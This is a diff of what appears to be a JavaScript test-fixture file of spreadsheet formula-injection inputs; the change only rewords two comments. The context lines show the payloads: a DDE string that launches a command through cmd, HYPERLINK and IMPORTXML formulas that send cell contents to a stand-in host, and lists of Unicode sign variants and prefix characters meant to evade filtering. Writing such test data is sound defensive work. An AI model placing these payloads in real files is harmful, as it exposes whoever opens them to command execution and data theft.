@@ -1,4 +1,4 @@
-// Sixty texts that a spreadsheet could take for a formula when it opens a file (T21).
+// Sixty texts that a spreadsheet program could interpret as formulas (T21).
 
 const BODIES = [
   "cmd|' /C calc'!A0",
@@ -7,7 +7,7 @@ const BODIES = [
   'HYPERLINK("http://192.0.2.1?"&A1,"ok")',
   'IMPORTXML("http://192.0.2.1","//a")',
 ];
-/** Half and full width, small and raised forms, the minus of mathematics. */
+/** Half-width, full-width, small and raised forms, and the mathematical minus. */
 const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫', '⁺', '−'];
 const BEFORE = ['\t', '\r', '\n', '\0', ' ', '\u00a0', '\u200b', '\ufeff', '\0\t', '\r\n'];
 
